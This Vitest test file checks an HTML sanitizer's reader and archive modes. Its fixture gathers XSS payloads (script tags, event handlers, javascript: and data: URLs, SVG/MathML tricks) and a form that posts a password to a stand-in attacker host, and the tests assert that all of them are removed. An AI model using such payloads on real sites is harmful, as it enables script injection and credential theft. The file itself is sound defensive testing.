import { describe, expect, it } from 'vitest';
import { archiveHtml, readerHtml } from './sanitize.js';

const PAGE = 'https://news.example.com/2026/tides/story.html';

/** Hostile markup in every form the issue names, each beside harmless text that must survive. */
const HOSTILE = `
<p>Kept paragraph <strong>bold</strong> <a href="/about?utm_source=x&amp;id=3">about</a></p>
<script>alert(1)</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<img src="x" onerror="alert(2)"><img src="/pic.jpg" alt="Tide chart" onload="alert(3)">
<a href="javascript:alert(4)">js link</a><a href=" JaVaScRiPt:alert(5)">js link 2</a>
<a href="data:text/html,<script>alert(6)</script>">data link</a><a href="vbscript:msgbox(7)">vb</a>
<svg><script>alert(8)</script><circle onload="alert(9)"/></svg>
<math><mi xlink:href="javascript:alert(10)" mathvariant="bold">m</mi></math>
<math><maction actiontype="toggle"><mi>a</mi></maction><semantics><mi>b</mi><annotation-xml encoding="text/html"><img src="x" onerror="alert(16)"><b>xml</b></annotation-xml></semantics></math>
<div style="background:url(javascript:alert(11));width:expression(alert(12))">styled text</div>
<style>body{background:url("https://tracker.example/p.gif")}</style>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="y.swf">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
<img src="https://tracker.example/beacon.gif" width="1" height="1">
<p onclick="alert(13)" class="x" id="y">clickable</p>
<template><script>alert(14)</script></template><noscript><img src="https://tracker.example/ns.gif"></noscript>
<details open ontoggle="alert(15)"><summary>More</summary>inside</details>
`;

describe('sanitize', () => {
  for (const [name, clean] of [
    ['reader', readerHtml],
    ['archive', archiveHtml],
  ] as const) {
    it(`${name}: keeps the text and drops everything that runs, submits, frames or tracks`, () => {
      const html = clean(HOSTILE, PAGE);
      expect(html).toContain('Kept paragraph <strong>bold</strong>');
      expect(html).toContain('<a href="https://news.example.com/about?id=3">about</a>');
      expect(html).toContain('<img src="https://news.example.com/pic.jpg" alt="Tide chart" />');
      expect(html).toContain('styled text');
      expect(html).toContain('clickable');
      expect(html).toMatch(/<details>\s*<summary>More<\/summary>inside<\/details>/);
      expect(html).not.toMatch(/alert|script|javascript|vbscript|data:|evil\.example|tracker\.example/i);
      expect(html).toContain('<math><mi mathvariant="bold">m</mi></math>');
      expect(html).toContain('<math><mi>a</mi><semantics><mi>b</mi></semantics></math>');
      expect(html).not.toMatch(
        /<(form|input|button|iframe|object|embed|meta|base|link|style|svg|maction)\b/i,
      );
      expect(html).not.toMatch(/annotation-xml|xml<\/b>|xlink/);
      expect(html).not.toContain('Send');
      expect(html).not.toMatch(/\s(on\w+|style|class|id)=/i);
      expect(html).not.toContain('src="x"');
    });
  }

  it('keeps the layout of the page in the archive only', () => {
    const page = '<main><nav>Menu</nav><section><h2>Heading</h2><p>Body</p></section></main>';
    expect(archiveHtml(page, PAGE)).toBe(page);
    expect(readerHtml(page, PAGE)).toBe('Menu<h2>Heading</h2><p>Body</p>');
  });

  it('takes a lazy image from data-src and drops one with no usable address', () => {
    expect(readerHtml('<img data-src="/lazy.png" alt="a"><img src="ftp://x/y.png">', PAGE)).toBe(
      '<img alt="a" src="https://news.example.com/lazy.png" />',
    );
  });
});
